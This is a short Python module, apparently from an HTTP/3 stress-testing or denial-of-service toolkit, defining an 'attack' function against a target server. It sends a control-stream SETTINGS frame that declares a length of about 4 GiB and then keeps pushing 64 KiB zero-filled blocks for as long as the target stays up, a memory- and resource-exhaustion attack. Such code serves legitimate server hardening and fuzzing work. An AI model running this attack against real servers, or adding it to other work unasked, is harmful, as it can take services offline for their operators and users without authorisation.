"""SETTINGS that claim 4 GiB on the control stream."""

from wire.http3 import CONTROL, GIANT, SETTINGS, frame, http3, number


async def attack(target):
    async def lane(_):
        async with http3(target, begins=False) as it:
            if it:
                control = it.stream(one_way=True)
                await it.send(control, number(CONTROL) + frame(SETTINGS, length=GIANT))
                while target.goes_on():
                    await it.send(control, bytes(65536))

    await target.lanes(1, lane)
